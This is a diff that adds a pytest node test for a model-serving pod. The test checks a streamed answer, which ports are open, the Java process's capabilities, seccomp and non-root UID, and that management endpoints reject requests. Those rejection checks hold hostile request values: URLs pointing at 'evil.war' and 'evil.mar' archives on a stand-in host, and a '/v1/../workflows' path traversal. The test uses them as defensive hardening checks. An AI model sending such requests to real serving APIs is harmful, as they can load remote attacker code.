@@ -1,0 +1,64 @@
+"""The example on a real node: from apply to an answer, who may ask, and what cannot be reached."""
+
+from __future__ import annotations
+
+import contextlib
+import http.client
+import socket
+import time
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import openai
+import pytest
+
+pytestmark = pytest.mark.node
+
+QUESTION = "What is the capital of France?"
+TOKENS = 24
+CLOSED = (7070, 7071, 8080, 8081, 8082, 29500)
+
+
+def stream(url: str, question: str, tokens: int, key: str = "none") -> list[str]:
+    """Return the pieces of an answer as OpenAI's client gets them."""
+    with openai.OpenAI(base_url=url, api_key=key, max_retries=0, timeout=120) as client:
+        messages = [{"role": "user", "content": question}]
+        pieces = client.chat.completions.create(model="smollm2", messages=messages, max_tokens=tokens, temperature=0, stream=True)
+        return [choice.delta.content for piece in pieces for choice in piece.choices if choice.delta.content]
+
+
+def is_open(address: str, port: int) -> bool:
+    with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=5):
+        return True
+    return False
+
+
+def test_the_example_answers_as_one_process_does(serve, reference) -> None:
+    began = time.monotonic()
+    service = serve()
+    seconds = time.monotonic() - began
+    url = service.url()
+    pieces = service.node.inside(lambda: stream(url, QUESTION, TOKENS))
+    assert len(pieces) > 3, "piece by piece"
+    assert "".join(pieces) == reference(QUESTION, TOKENS)
+    print(f"applied to Ready in {seconds:.1f} s")
+
+    (pod,) = service.pods()
+    address, base = pod["status"]["podIP"], urlsplit(url)
+
+    def look() -> dict[int, bool]:
+        return {port: is_open(address, port) for port in (8000, 8405, *CLOSED)}
+
+    assert service.node.inside(look) == dict.fromkeys((8000, 8405), True) | dict.fromkeys(CLOSED, False)
+
+    def post(path: str) -> int:
+        with contextlib.closing(http.client.HTTPConnection(base.hostname or "", 80, timeout=30)) as connection:
+            connection.request("POST", path)
+            return connection.getresponse().status
+
+    for path in ("/workflows?url=http://10.89.0.1/evil.war", "/models?url=http://10.89.0.1/evil.mar", "/v1/../workflows"):
+        assert service.node.inside(lambda path=path: post(path)) == 404
+    first = service.processes(pod)[0]
+    assert "java" in first.name()
+    state = dict(line.split(":", 1) for line in Path(f"/proc/{first.pid}/status").read_text().splitlines())
+    assert (state["CapEff"].strip("\t0"), state["Seccomp"].strip(), state["Uid"].split()[0]) == ("", "2", "10001")
